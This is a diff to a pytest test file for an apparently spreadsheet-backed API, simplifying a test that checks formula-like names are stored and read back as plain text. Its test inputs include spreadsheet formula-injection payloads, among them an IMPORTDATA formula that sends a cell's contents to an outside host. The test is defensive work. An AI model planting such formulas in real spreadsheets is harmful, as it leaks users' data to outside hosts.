@@ -14,7 +14,7 @@ from urllib.parse import quote
 import pytest
 
 import tests.journeys.nasty_inputs as nasty
-from tests.journeys.conftest import Api, OpenGateway
+from tests.journeys.conftest import Api
 from tests.journeys.connection import said_to
 from tests.journeys.failure import anonymous, refused
 from tests.journeys.nasty_inputs import cases
@@ -69,11 +69,8 @@ def test_odd_cells(api: Api) -> None:
 @pytest.mark.parametrize(
     "text", ['=IMPORTDATA("https://x/"&A2)', "\t=1", "+cmd", "@x", "-1+1"], ids=repr
 )
-@pytest.mark.parametrize("value_input", ["raw", "user_entered"])
-def test_a_formula_from_outside(open_gateway: OpenGateway, text: str, value_input: str) -> None:
-    """It is stored as the text that it is, whichever way, and read back identical."""
-    api = open_gateway({"google.value_input": value_input})
-
+def test_a_formula_from_outside(api: Api, text: str) -> None:
+    """It is stored as the text that it is, and read back identical."""
     created = api.post("New", json={"name": text})
     updated = api.send("PUT", "Cities/2", json={"name": text})
 
